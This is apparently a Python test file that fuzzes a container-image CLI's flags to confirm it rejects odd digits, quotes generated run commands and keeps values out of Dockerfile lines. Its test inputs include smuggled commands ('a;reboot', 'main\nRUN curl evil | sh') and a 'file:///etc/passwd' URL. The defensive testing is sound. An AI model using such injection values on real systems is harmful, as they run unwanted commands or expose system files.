"""Channel: command-line flags. Every value a user can type is parsed and bounded at the CLI
boundary: a documented exit code with error + hint, never a traceback; nothing unquoted reaches a
printed command or a Dockerfile."""

from __future__ import annotations

import json
import shlex

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from .conftest import HOSTILE, assert_clean, cli

# Characters that break naive parsing: other scripts' digits and superscripts (isdigit() is True,
# int() reads or rejects them), underscores (int("1_0") == 10), line breaks, shell syntax.
TRICKY = "0123456789.-_:,/ \n\r\t$`;|&'\"\\<>()*?~#%=+" + "²³¹٣۳०൩１⁹⅓" + "\u2028\x85\x00"
tricky_text = st.text(alphabet=TRICKY + "abcdefgx", max_size=40)
huge_number = st.integers(min_value=300, max_value=6000).map(lambda n: "9" * n)
flag_value = st.one_of(tricky_text, huge_number, st.text(max_size=30))

NODE = ["--gfx", "gfx942", "--gpus", "2", "--driver", "30.30.3"]


@HOSTILE
@given(
    flag=st.sampled_from(["--python", "--driver", "--os", "--rocm", "--gfx", "--gpus", "--vllm"]),
    value=flag_value,
)
@example(flag="--python", value="3.٣")
@example(flag="--python", value="3.1²")
@example(flag="--gpus", value="9" * 5000)
@example(flag="--driver", value="30.30." + "9" * 5000)
@example(flag="--vllm", value="==0." + "9" * 5000)
@example(flag="--rocm", value="7." + "9" * 5000)
def test_node_flags(flag: str, value: str) -> None:
    argv = ["check", *[a for a in NODE if a != flag], flag, value, "--quiet"]
    if flag == "--gfx":
        argv = ["check", "--gfx", value, "--quiet"]
    assert_clean(cli(argv))


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--python", "3.٣"),
        ("--python", "3.1²"),
        ("--python", "３.12"),
        ("--driver", "3٠.30.3"),
        ("--os", "ubuntu-٢٢.04"),
    ],
)
def test_non_ascii_digits_are_refused(flag: str, value: str) -> None:
    o = cli(["check", "--gfx", "gfx942", flag, value, "--quiet"])
    assert o.code == 2 and "error:" in o.err, str(o)


@pytest.mark.parametrize("devices", ["1_0", "٣", "²", "9" * 5000, "0,0", "-1", "1024"])
def test_devices_refused(devices: str) -> None:
    o = cli(["image", *NODE, "--devices", devices])
    assert o.code == 2 and "--devices" in o.err, str(o)


def _assert_quoted(command: str, args: list[str]) -> None:
    """The printed line splits back into exactly the argv (modulo ~/ expansion)."""
    words = shlex.split(command)
    assert len(words) == len(args), (command, args)
    for word, arg in zip(words, args, strict=True):
        assert word == arg or (word.startswith("~/") and arg.endswith(word[1:])), (word, arg)


@HOSTILE
@given(
    model=st.one_of(
        tricky_text, st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._/-]{0,20}", fullmatch=True)
    ),
    hf_cache=st.one_of(
        tricky_text, st.sampled_from(["~/hf", "/data/hf", "~root/hf", "~nosuchuser_x/hf", "~"])
    ),
    devices=st.one_of(st.none(), tricky_text, st.just("0,1")),
    fmt=st.sampled_from(["docker", "podman", "compose"]),
)
@example(model="Qwen/Qwen3-8B\n", hf_cache="~/hf", devices=None, fmt="docker")
@example(model="a;reboot", hf_cache="/x", devices=None, fmt="docker")
@example(model="Qwen/Qwen3-8B", hf_cache="/x\n", devices=None, fmt="docker")
def test_image_run_command_is_quoted(
    model: str, hf_cache: str, devices: str | None, fmt: str
) -> None:
    argv = ["image", *NODE, "--model", model, "--hf-cache", hf_cache, "--format", fmt, "--json"]
    if devices is not None:
        argv += ["--devices", devices]
    o = cli(argv)
    assert_clean(o)
    if o.code in (0, 1):
        doc = json.loads(o.out)
        if doc.get("run_command") and fmt != "compose":
            _assert_quoted(doc["run_command"], doc["run_args"])
            assert "\n" not in doc["run_command"]
            # the model positionally, one word (v0.6.0-v0.11.0 refuse --model)
            assert model in doc["run_args"] and "--model" not in doc["run_args"]


def test_hf_cache_tilde_user_is_expanded() -> None:
    o = cli(["image", *NODE, "--hf-cache", "~root/hf", "--json"])
    assert o.code in (0, 1), str(o)
    doc = json.loads(o.out)
    assert "-v" in doc["run_args"]
    volume = doc["run_args"][doc["run_args"].index("-v") + 1]
    assert volume.startswith("/root/hf:"), volume
    assert "~root" not in doc["run_command"]


@HOSTILE
@given(
    flag=st.sampled_from(["--vllm-ref", "--vllm-repo", "--tag"]),
    value=st.one_of(
        tricky_text, st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._/-]{0,15}\n", fullmatch=True)
    ),
)
@example(flag="--vllm-ref", value="main\n")
@example(flag="--vllm-repo", value="vllm-project/vllm\n")
@example(flag="--tag", value="vllm-rocm:dev\n")
@example(flag="--vllm-ref", value="main\nRUN curl evil | sh")
def test_dockerfile_flags(flag: str, value: str) -> None:
    o = cli(
        ["dockerfile", *NODE, "--vllm", "0.10.0", flag, value, "--dry-run", "--build"]
        if flag == "--tag"
        else ["dockerfile", *NODE, "--vllm", "0.10.0", flag, value]
    )
    assert_clean(o)
    if "\n" in value or "\r" in value:
        assert o.code == 2, str(o)
    if o.code == 0:
        _assert_dockerfile_shape(o.out)


INSTRUCTIONS = (
    "FROM",
    "ARG",
    "ENV",
    "RUN",
    "COPY",
    "WORKDIR",
    "LABEL",
    "USER",
    "SHELL",
    "ENTRYPOINT",
    "CMD",
    "EXPOSE",
)


def _assert_dockerfile_shape(text: str) -> None:
    """Every top-level line is an instruction or a comment; a value cannot have started a line."""
    for line in text.splitlines():
        if line and not line[0].isspace() and not line.startswith("#"):
            assert line.split(" ", 1)[0] in INSTRUCTIONS, line


@HOSTILE
@given(
    url=st.one_of(
        tricky_text,
        st.sampled_from(
            [
                "http://[::1]:5000",
                "http://[::1]:1",
                "http://[::1",
                "http://[zz]:1",
                "file:///etc/passwd",
                "http://127.0.0.1:99999",
                "http://" + "a" * 300,
                "https://host/v2/\n",
                "http://127.0.0.1:1",
            ]
        ),
    )
)
def test_registry_flag(url: str) -> None:
    o = cli(["image", *NODE, "--registry", url, "--digest"], env={"ROCM_VLLM_HTTP_DEADLINE": "3"})
    assert_clean(o)


def test_ipv6_registry_is_accepted() -> None:
    from resolver.artifacts.registry import parse_registry

    reg = parse_registry("http://[::1]:5000")
    assert reg.url == "http://[::1]:5000"
    assert reg.image_name("vllm/vllm-openai-rocm") == "[::1]:5000/vllm/vllm-openai-rocm"
